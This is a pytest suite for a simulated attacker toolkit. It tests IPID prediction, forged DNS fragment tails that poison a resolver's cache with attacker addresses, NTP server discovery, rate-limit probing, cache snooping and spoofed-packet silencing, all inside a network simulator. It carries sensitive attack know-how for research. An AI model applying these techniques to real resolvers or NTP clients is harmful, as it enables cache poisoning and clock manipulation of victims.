import math
import random

import pytest

from npl.attacker import (
    Attacker,
    Silencer,
    cache_snoop,
    classify_rate_limit,
    detect_rate_limiting,
    discover_control,
    discover_enumerate,
    discover_refid,
    fit_ipid_samples,
    forge_tail,
    plan_window,
    synth_addresses,
    tail_fragment,
)
from npl.dns import Nameserver, Resolver
from npl.errors import ChecksumUnfixable, NonLinearIpid
from npl.netsim import Network
from npl.ntp import NTP_PORT, NtpClient, NtpServer, ntp_ts
from npl.wirefmt import (
    DnsMessage,
    Ipv4Packet,
    NtpPacket,
    Question,
    ResourceRecord,
    UdpDatagram,
    fragment_packet,
    make_udp,
    reassemble_fragments,
)

MAL = ["6.6.6.10", "6.6.6.11", "6.6.6.12", "6.6.6.13"]


# ------------------------------------------------------------ IPID prediction


def test_exact_counter_predicts_next_with_unit_window():
    pred = fit_ipid_samples([(0, 100), (2000, 101), (4000, 102)])
    assert pred.step == 1
    assert pred.rate_pps == 0.0
    center, candidates = pred.predict(9000)
    assert center == 103
    assert candidates == [103]


def test_step_included_in_prediction():
    pred = fit_ipid_samples([(0, 10), (1000, 13), (2000, 16)])
    assert pred.step == 3
    center, _ = pred.predict(3000)
    assert center == 19


def test_varying_diffs_recover_unit_step_without_hint():
    # Poisson-style jitter breaks the constant-diff ambiguity via the gcd.
    pred = fit_ipid_samples([(0, 0), (1000, 4), (2000, 9), (3000, 12)])
    assert pred.step == 1
    assert pred.rate_pps == pytest.approx(3.0)


def test_cross_traffic_widens_window():
    # ~2 background packets/s on top of our own probe responses.
    samples = [(0, 0), (2000, 5), (4000, 10), (6000, 15)]
    pred = fit_ipid_samples(samples, step_hint=1)
    assert pred.step == 1
    assert abs(pred.rate_pps - 2.0) < 0.01
    center, candidates = pred.predict(11000)  # 5 s ahead: E=10, 2*sqrt(10)=6.32 -> 7
    assert center == (15 + 1 + 10)
    assert len(candidates) == 15
    assert set(candidates) == set(range(center - 7, center + 8))


def test_wraparound_handled():
    pred = fit_ipid_samples([(0, 0xFFFE), (1000, 0xFFFF), (2000, 0x0000)])
    assert pred.step == 1
    assert pred.predict(3000)[0] == 1


def test_nonlinear_counter_rejected():
    with pytest.raises(NonLinearIpid):
        fit_ipid_samples([(0, 100), (1000, 100), (2000, 100)])
    with pytest.raises(NonLinearIpid):
        # Wild scatter: residuals blow past the tolerance.
        fit_ipid_samples([(0, 0), (1000, 500), (2000, 501), (3000, 1400)],
                         residual_tolerance=10)


def test_window_truncated_to_slot_limit():
    # E = 1225 background packets -> +-70 -> 141 candidates, over the 64 slots.
    samples = [(0, 0), (1000, 50), (2000, 100)]
    pred = fit_ipid_samples(samples, step_hint=1)
    assert pred.step == 1
    expected = pred.rate_pps * 25
    assert math.ceil(2 * math.sqrt(expected)) == 70
    ipids, truncated = plan_window(pred, 27000, 64)
    assert truncated
    assert len(ipids) == 64
    full, not_truncated = plan_window(pred, 27000, 200)
    assert not not_truncated
    assert len(full) == 141


def test_poisson_window_hit_rate_matches_analytic_coverage():
    # Empirical hit rate of the +-2 sigma window vs the Poisson tail mass.
    rng = random.Random(42)
    rate = 2.0
    horizon_s = 5.0
    pred = fit_ipid_samples([(0, 0), (2000, 5), (4000, 10), (6000, 15)], step_hint=1)
    center, candidates = pred.predict(6000 + int(horizon_s * 1000))
    window = set(candidates)
    lam = rate * horizon_s
    hits = 0
    trials = 20_000
    for _ in range(trials):
        # True next ipid: last + own response + Poisson(lam) background.
        k = 0
        # inverse-CDF Poisson draw
        u, p, s = rng.random(), math.exp(-lam), math.exp(-lam)
        while u > s:
            k += 1
            p *= lam / k
            s += p
        true_ipid = 15 + 1 + k
        hits += true_ipid in window
    analytic = sum(
        math.exp(-lam) * lam**k / math.factorial(k)
        for k in range(0, 200)
        if (15 + 1 + k) in window
    )
    assert abs(hits / trials - analytic) < 0.01


# ------------------------------------------------------------ tail forging


def a_response(qname, addresses, ttl=150, txid=0):
    return DnsMessage(
        txid=txid, qr=True, aa=True, rd=True, question=Question(qname),
        answers=tuple(ResourceRecord.a_record(qname, a, ttl) for a in addresses),
    )


def test_forge_tail_substitutes_every_record_at_mtu_68():
    template = a_response("pool.ntp.org", ["1.1.1.5", "1.1.1.6", "1.1.1.7", "1.1.1.8"])
    forged = forge_tail(template, 68, MAL, ttl=90000)
    assert forged.split == 48
    assert forged.frag_offset == 6
    assert forged.substituted == [0, 1, 2, 3]
    assert len(forged.tail) == 8 + len(template.encode()) - 48


def test_forge_tail_preserves_head_and_passes_checksum_after_swap():
    qname = "pool.ntp.org"
    genuine_msg = a_response(qname, ["1.1.1.5", "1.1.1.6", "1.1.1.7", "1.1.1.8"],
                             txid=0xBEEF)
    udp = make_udp("10.9.9.9", "10.0.0.53", 53, 41000, genuine_msg.encode())
    genuine_pkt = Ipv4Packet(src="10.9.9.9", dst="10.0.0.53", protocol=17,
                             ipid=0x4242, payload=udp.encode())
    frags = fragment_packet(genuine_pkt, 68)
    assert len(frags) > 2  # 150-byte payload in 48-byte chunks

    # The attacker knows neither txid nor port: template txid differs.
    template = a_response(qname, ["1.1.1.5", "1.1.1.6", "1.1.1.7", "1.1.1.8"])
    forged = forge_tail(template, 68, MAL, ttl=90000)
    spoofed = tail_fragment("10.9.9.9", "10.0.0.53", forged, 0x4242)

    # First-arrival-wins: the spoofed tail is already in the cache.
    result = reassemble_fragments([spoofed] + frags)
    out = UdpDatagram.decode(result.payload)
    assert out.verify("10.9.9.9", "10.0.0.53")
    msg = DnsMessage.decode(out.payload)
    assert msg.txid == 0xBEEF  # challenge fields are the genuine ones
    assert [rr.address for rr in msg.answers] == MAL
    assert all(rr.ttl >= 65536 for rr in msg.answers)  # inflated TTLs survive the fix


def test_forge_tail_randomized_pipeline():
    rng = random.Random(1)
    for _ in range(200):
        n = rng.randrange(3, 10)
        qname = rng.choice(["pool.ntp.org", "0.pool.ntp.org", "time.example"])
        addrs = [f"1.1.{rng.randrange(255)}.{rng.randrange(1, 255)}" for _ in range(n)]
        mtu = rng.choice([68, 104, 296])
        msg = a_response(qname, addrs, ttl=rng.randrange(60, 4000), txid=rng.randrange(65536))
        udp = make_udp("9.9.9.9", "8.8.8.8", 53, rng.randrange(1024, 65536), msg.encode())
        pkt = Ipv4Packet(src="9.9.9.9", dst="8.8.8.8", protocol=17,
                         ipid=rng.randrange(65536), payload=udp.encode())
        frags = fragment_packet(pkt, mtu)
        if len(frags) < 2:
            continue
        template = a_response(qname, addrs, ttl=msg.answers[0].ttl)
        try:
            forged = forge_tail(template, mtu, MAL, ttl=90000)
        except ChecksumUnfixable:
            continue
        spoofed = tail_fragment("9.9.9.9", "8.8.8.8", forged, pkt.ipid)
        result = reassemble_fragments([spoofed] + frags)
        out = UdpDatagram.decode(result.payload)
        assert out.verify("9.9.9.9", "8.8.8.8")
        decoded = DnsMessage.decode(out.payload)
        for i in forged.substituted:
            assert decoded.answers[i].address in MAL


def test_forge_tail_rejects_unfragmentable_template():
    small = a_response("pool.ntp.org", ["1.1.1.1"])
    with pytest.raises(ValueError):
        forge_tail(small, 296, MAL)


def test_synth_addresses_unique():
    addrs = synth_addresses(89)
    assert len(addrs) == len(set(addrs)) == 89


# ------------------------------------------------------ end-to-end poisoning


def poison_world(seed=21):
    net = Network(seed=seed, default_latency_ms=10)
    rhost = net.add_host("resolver", "10.0.0.53")
    nhost = net.add_host("ns", "10.9.9.9")
    zone = {"pool.ntp.org": [f"1.1.1.{i}" for i in range(1, 13)]}
    ns = Nameserver(net, nhost, zone)
    resolver = Resolver(net, rhost, nhost.ip)
    ahost = net.add_host("attacker", "6.6.6.6", can_spoof=True)
    attacker = Attacker(net, ahost)
    return net, resolver, ns, attacker


def test_planted_tail_poisons_cache_through_genuine_response():
    net, resolver, ns, attacker = poison_world()
    state = {}

    attacker.send_icmp_frag_needed("10.9.9.9", "10.0.0.53", 68)

    def on_probe(msg, pkt):
        state["window"] = [rr.address for rr in msg.answers]
        state["ipid"] = pkt.ipid

    net.schedule(100, lambda: attacker.dns_query("10.9.9.9", "pool.ntp.org", on_probe))
    net.run_until(1000)
    assert state["window"] == ["1.1.1.1", "1.1.1.2", "1.1.1.3", "1.1.1.4"]

    # Predict the victim's response: next rotation window, next IPID.
    template = a_response("pool.ntp.org", ["1.1.1.5", "1.1.1.6", "1.1.1.7", "1.1.1.8"])
    forged = forge_tail(template, 68, MAL, ttl=90000)
    attacker.plant("10.9.9.9", "10.0.0.53", forged, [(state["ipid"] + 1) % 65536])

    # The victim's own lookup triggers the fragmented genuine response.
    client = net.add_host("client", "10.0.0.2")
    got = []
    net.bind(client, 9000, lambda s, sp, p, pk: got.append(DnsMessage.decode(p)))
    q = DnsMessage(txid=7, qr=False, rd=True, question=Question("pool.ntp.org"))
    net.schedule(net.now, lambda: net.send_udp(client, 9000, "10.0.0.53", 53, q.encode()))
    events = net.run_until(120_000)

    writes = [e for e in events if e.kind == "cache_write"]
    assert len(writes) == 1
    assert writes[0].detail["addresses"] == MAL
    assert writes[0].detail["ttl"] >= 65536
    assert got and [rr.address for rr in got[0].answers] == MAL
    assert not [e for e in events if e.kind == "drop" and e.detail.get("reason") == "udp_checksum"]
    # The genuine trailing fragments started a stale entry that timed out.
    assert [e for e in events if e.kind == "defrag_evict"]


def test_stale_tail_misses_when_planted_too_early():
    net, resolver, ns, attacker = poison_world()
    state = {}
    attacker.send_icmp_frag_needed("10.9.9.9", "10.0.0.53", 68)
    net.schedule(100, lambda: attacker.dns_query(
        "10.9.9.9", "pool.ntp.org", lambda m, p: state.update(ipid=p.ipid)))
    net.run_until(1000)
    template = a_response("pool.ntp.org", ["1.1.1.5", "1.1.1.6", "1.1.1.7", "1.1.1.8"])
    forged = forge_tail(template, 68, MAL, ttl=90000)
    attacker.plant("10.9.9.9", "10.0.0.53", forged, [(state["ipid"] + 1) % 65536])

    client = net.add_host("client", "10.0.0.2")
    net.bind(client, 9000, lambda *a: None)
    q = DnsMessage(txid=7, qr=False, rd=True, question=Question("pool.ntp.org"))
    # 31 s later the tail has been evicted: the genuine response reassembles
    # from its own fragments and the cache stays honest.
    net.schedule(net.now + 31_000,
                 lambda: net.send_udp(client, 9000, "10.0.0.53", 53, q.encode()))
    events = net.run_until(200_000)
    writes = [e for e in events if e.kind == "cache_write"]
    assert len(writes) == 1
    assert all(a.startswith("1.1.1.") for a in writes[0].detail["addresses"])


# ----------------------------------------------------------------- discovery


def test_discover_refid_and_control_against_live_client():
    net = Network(seed=31, default_latency_ms=5)
    rhost = net.add_host("resolver", "10.0.0.53")
    nhost = net.add_host("ns", "10.9.9.9")
    zone = {"pool.ntp.org": ["1.1.1.1", "1.1.1.2", "1.1.1.3", "1.1.1.4"]}
    Nameserver(net, nhost, zone)
    Resolver(net, rhost, nhost.ip)
    for ip in zone["pool.ntp.org"]:
        NtpServer(net, net.add_host(f"srv-{ip}", ip), upstream_ref="7.7.7.1")
    chost = net.add_host("client", "10.0.0.2")
    NtpClient(net, chost, "ntpd", ["pool.ntp.org"], "10.0.0.53", control_exposed=True)
    ahost = net.add_host("attacker", "6.6.6.6", can_spoof=True)
    attacker = Attacker(net, ahost)
    net.run_until(200_000)

    out = {}
    discover_refid(attacker, "10.0.0.2", lambda a: out.setdefault("refid", a),
                   lambda: out.setdefault("refid", "unavailable"))
    discover_control(attacker, "10.0.0.2", lambda d: out.setdefault("control", d),
                     lambda: out.setdefault("control", "unavailable"))
    net.run_until(net.now + 20_000)
    assert out["refid"] in zone["pool.ntp.org"]
    assert sorted(out["control"]["upstreams"]) == zone["pool.ntp.org"]
    assert out["control"]["hostnames"] == ["pool.ntp.org"]


def test_discover_control_unavailable_when_closed():
    net = Network(seed=32, default_latency_ms=5)
    shost = net.add_host("srv", "1.1.1.1")
    NtpServer(net, shost, control_exposed=False)
    ahost = net.add_host("attacker", "6.6.6.6", can_spoof=True)
    attacker = Attacker(net, ahost)
    out = {}
    discover_control(attacker, "1.1.1.1", lambda d: out.setdefault("r", d),
                     lambda: out.setdefault("r", "unavailable"))
    net.run_until(30_000)
    assert out["r"] == "unavailable"


def test_discover_enumerate_saturates_zone():
    net = Network(seed=33, default_latency_ms=5)
    nhost = net.add_host("ns", "10.9.9.9")
    zone = {"pool.ntp.org": [f"1.1.1.{i}" for i in range(1, 25)]}
    Nameserver(net, nhost, zone)
    ahost = net.add_host("attacker", "6.6.6.6", can_spoof=True)
    attacker = Attacker(net, ahost)
    out = {}
    discover_enumerate(attacker, "10.9.9.9", ["pool.ntp.org"],
                       lambda addrs: out.setdefault("addrs", addrs))
    net.run_until(60_000)
    assert sorted(out["addrs"]) == sorted(zone["pool.ntp.org"])


# ------------------------------------------------------------------- probers


def test_classifier_rules():
    assert classify_rate_limit([(0, False), (1, True)]) == "kod"
    replies = [(i, False) for i in range(16)]
    assert classify_rate_limit(replies) == "silent_limit"  # 16 - 0 > 8
    steady = [(i, False) for i in range(60)]
    assert classify_rate_limit(steady) == "none"
    assert classify_rate_limit([(i, False) for i in range(5)]) == "none"  # 5 - 0 <= 8


@pytest.mark.parametrize(
    "kod,limited,expected",
    [(True, True, "kod"), (False, True, "silent_limit"), (True, False, "none")],
)
def test_detect_rate_limiting_in_sim(kod, limited, expected):
    net = Network(seed=34, default_latency_ms=5)
    shost = net.add_host("srv", "1.1.1.1")
    NtpServer(net, shost, rate_limit_enabled=limited, kod_before_silence=kod, burst=16)
    ahost = net.add_host("attacker", "6.6.6.6", can_spoof=True)
    attacker = Attacker(net, ahost)
    out = {}
    detect_rate_limiting(attacker, "1.1.1.1", lambda c: out.setdefault("c", c))
    net.run_until(200_000)
    assert out["c"] == expected


# --------------------------------------------------------------- cache snoop


def snoop_world(ignore_rd=False):
    net = Network(seed=35, default_latency_ms=5)
    rhost = net.add_host("resolver", "10.0.0.53")
    nhost = net.add_host("ns", "10.9.9.9")
    zone = {
        "pool.ntp.org": ["1.1.1.1", "1.1.1.2"],
        "canary-a.example": ["5.5.5.1"],
        "canary-b.example": ["5.5.5.2"],
    }
    Nameserver(net, nhost, zone)
    resolver = Resolver(net, rhost, nhost.ip, ignore_rd=ignore_rd)
    ahost = net.add_host("attacker", "6.6.6.6", can_spoof=True)
    return net, resolver, Attacker(net, ahost)


def test_snoop_reports_cached_name_with_ttl():
    net, resolver, attacker = snoop_world()
    # Prime pool.ntp.org as an ordinary client would.
    client = net.add_host("client", "10.0.0.2")
    net.bind(client, 9000, lambda *a: None)
    q = DnsMessage(txid=3, qr=False, rd=True, question=Question("pool.ntp.org"))
    net.schedule(0, lambda: net.send_udp(client, 9000, "10.0.0.53", 53, q.encode()))
    net.run_until(5_000)

    out = {}
    cache_snoop(attacker, "10.0.0.53", ["pool.ntp.org", "other.example"],
                verify_uncached="canary-a.example", verify_prime="canary-b.example",
                cb=lambda r: out.update(r))
    net.run_until(120_000)
    status, ttl = out["pool.ntp.org"]
    assert status == "cached" and 0 < ttl <= 150
    assert out["other.example"] == "not_cached"


def test_snoop_cold_resolver_reports_nothing_cached():
    net, resolver, attacker = snoop_world()
    out = {}
    cache_snoop(attacker, "10.0.0.53", ["pool.ntp.org"],
                verify_uncached="canary-a.example", verify_prime="canary-b.example",
                cb=lambda r: out.update(r))
    net.run_until(120_000)
    assert out["pool.ntp.org"] == "not_cached"


def test_snoop_untestable_when_resolver_ignores_rd():
    net, resolver, attacker = snoop_world(ignore_rd=True)
    out = {}
    cache_snoop(attacker, "10.0.0.53", ["pool.ntp.org"],
                verify_uncached="canary-a.example", verify_prime="canary-b.example",
                cb=lambda r: out.update(r))
    net.run_until(120_000)
    assert out["pool.ntp.org"] == "untestable"


# ----------------------------------------------------------------- silencer


def test_silencer_rate_and_stop():
    net = Network(seed=36, default_latency_ms=5)
    shost = net.add_host("srv", "1.1.1.1")
    NtpServer(net, shost, rate_limit_enabled=True)
    ahost = net.add_host("attacker", "6.6.6.6", can_spoof=True)
    attacker = Attacker(net, ahost)
    s = Silencer(attacker, "1.1.1.1", "10.0.0.2", rate_per_s=2.0)
    net.schedule(0, s.start)
    net.run_until(10_000)
    sent = attacker.packets_sent["silence_spoof"]
    assert 19 <= sent <= 21
    s.stop()
    net.run_until(20_000)
    assert attacker.packets_sent["silence_spoof"] <= sent + 1
